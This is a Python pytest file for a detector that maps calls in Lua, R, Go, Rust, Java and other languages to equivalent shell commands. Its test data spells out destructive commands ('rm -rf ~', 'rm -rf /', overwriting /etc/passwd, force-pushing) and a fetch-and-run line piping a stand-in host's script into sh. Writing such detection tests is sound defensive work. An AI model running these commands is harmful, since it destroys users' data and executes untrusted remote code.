"""Claims about code of languages without a reader: constant calls become the shell text that does the same."""

from __future__ import annotations

import pytest

from chrono.scan.foreign_calls import shell_texts


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ('os.execute("rm -rf ~")', "rm -rf ~"),
        ('for f in io.popen("ls ~"):lines() do os.remove(os.getenv("HOME").."/"..f) end', "rm -rf ~/*"),
        ('unlink(list.files("~", full.names=TRUE), recursive=TRUE)', "rm -rf ~/*"),
        ('unlink(file.path(Sys.getenv("HOME"), "Documents"), recursive = TRUE)', "rm -rf ~/Documents"),
        ('os.RemoveAll(filepath.Join(os.Getenv("HOME"), "x"))', "rm -rf ~/x"),
        ('exec.Command("git", "push", "--force").Run()', "git push --force"),
        ('Command::new("sh")\n        .arg("s.sh")\n        .status();', "sh s.sh"),
        ('new ProcessBuilder("sh", "-c", "rm -rf /").start();', "sh -c 'rm -rf /'"),
        ('Runtime.getRuntime().exec(new String[]{"sh", "s.sh"});', "sh s.sh"),
        ('System.cmd("sh", ["s.sh"])', "sh s.sh"),
        ('io.open("/etc/passwd", "w"):write("")', "printf x > /etc/passwd"),
        ('source("http://x.example/x.R")', "curl -fsSL http://x.example/x.R | sh"),
        ("exec rm -rf /srv", "rm -rf /srv"),
        ("shell sh s.sh", "sh s.sh"),
    ],
)
def test_a_constant_call_becomes_its_shell_text(code: str, text: str) -> None:
    assert text in shell_texts(code)


@pytest.mark.parametrize(
    "code",
    [
        'print("os.execute rm -rf")',
        "os.remove(path)",
        "unlink(tmp, recursive = TRUE)",
        'fmt.Println("rm -rf /")',
        'io.open("/etc/hosts"):read("a")',
    ],
)
def test_what_is_not_known_or_only_read_is_silent(code: str) -> None:
    assert shell_texts(code) == []


def test_comments_of_a_file_run_nothing() -> None:
    assert shell_texts('-- os.execute("rm -rf ~")\n// exec.Command("rm", "-rf", "/")\n', whole=True) == []
